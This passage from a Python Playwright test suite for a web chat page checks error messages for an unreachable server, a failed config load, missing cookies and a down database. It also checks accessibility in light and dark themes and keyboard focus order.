    chat.page.clock.install()
    chat.page.goto("/")
    expect(chat.page.locator("body[data-chat=loaded]")).to_be_attached()

    chat.page.clock.fast_forward(2_000)

    expect(chat.page.locator("body[data-chat=ready]")).to_be_attached()
    chat.page.clock.fast_forward(60_000)
    expect(chat.problem).to_be_empty()


def test_the_server_is_unavailable_and_available_again(serve: Serve, visit: Visit) -> None:
    server = serve()
    chat = visit(server).tab().open()
    server.stop()

    chat.send("hello?")
    expect(chat.problem).to_contain_text("The server does not answer")
    expect(chat.problem).to_contain_text("python3 -m app doctor")

    server.start()
    chat.say("hello!")
    expect(chat.problem).to_be_empty()
    # For the message, and for the later report of its failure.
    chat.expect_complaint("ERR_CONNECTION_REFUSED|Failed to fetch")
    stop(server, chat)


def test_the_server_is_unavailable_before_the_configuration_is_loaded(chat: ChatPage) -> None:
    chat.page.route("**/config.json", lambda route: route.abort())

    chat.page.goto("/")

    expect(chat.problem).to_contain_text("The server does not answer")
    chat.expect_complaint("config.json")
    chat.expect_complaint("Failed to fetch")


def test_a_browser_without_cookies(visitor: Visitor, chat: ChatPage) -> None:
    def without_cookie(route: Route) -> None:
        response = route.fetch()
        visitor.context.clear_cookies()
        headers = {k: v for k, v in response.headers.items() if k != "set-cookie"}
        route.fulfill(response=response, headers=headers)

    chat.page.route(re.compile(r"/(config\.json)?$"), without_cookie)

    chat.page.goto("/")

    expect(chat.problem).to_contain_text("You are not signed in")
    expect(chat.problem).to_contain_text("cookies")


def test_the_database_is_down(serve: Serve, visit: Visit) -> None:
    server = serve(DATABASE_URL=NOBODY, DATABASE_PATIENCE_SECONDS="0")
    chat = visit(server).tab().open()

    with chat.next_event("error"):  # after the element has asked six times
        chat.send("hello?")

    expect(chat.problem).to_contain_text("The database does not answer")
    assert len(chat.sent("threads.create")) == 6
    chat.expect_complaint("503")
    stop(server, chat)


# --- Accessibility ----------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 380])
def test_the_page_is_accessible(chat: ChatPage, axe: str, scheme: Scheme, width: int) -> None:
    chat.page.emulate_media(color_scheme=scheme)
    chat.page.set_viewport_size({"width": width, "height": 800})
    chat.open()

    assert violations(chat, axe) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_refusal_is_accessible(chat: ChatPage, axe: str, scheme: Scheme) -> None:
    chat.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    chat.open()
    chat.send("x" * 20_001)
    expect(chat.notice).not_to_be_empty()

    assert violations(chat, axe) == []
    chat.expect_complaint("413")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(
    "problem",
    [
        *("scriptBlocked", "notDefined", "notReady", "startFailed"),
        *("backendDown", "databaseDown", "unauthenticated"),
    ],
)
def test_a_problem_is_accessible(chat: ChatPage, axe: str, scheme: Scheme, problem: str) -> None:
    chat.page.emulate_media(color_scheme=scheme)
    chat.open()
    chat.page.evaluate(
        """async (problem) => {
            const { Diagnostics } = await import("/static/js/diagnostics.js");
            const find = (selector) => document.querySelector(selector);
            delete document.body.dataset.chat;
            new Diagnostics(find("#problem"), find("#chatkit-script")).show(problem);
        }""",
        problem,
    )
    expect(chat.problem).to_be_visible()

    assert violations(chat, axe) == []


def test_the_keyboard_reaches_everything_in_order(chat: ChatPage) -> None:
    chat.open()
    for name in ("Dark colours", "History", "New chat"):
        chat.page.keyboard.press("Tab")
        expect(chat.button(name)).to_be_focused()
    chat.page.keyboard.press("Shift+Tab")
    chat.page.keyboard.press("Shift+Tab")
    chat.page.keyboard.press("Enter")
    expect(chat.button("Dark colours")).to_have_attribute("aria-pressed", "true")
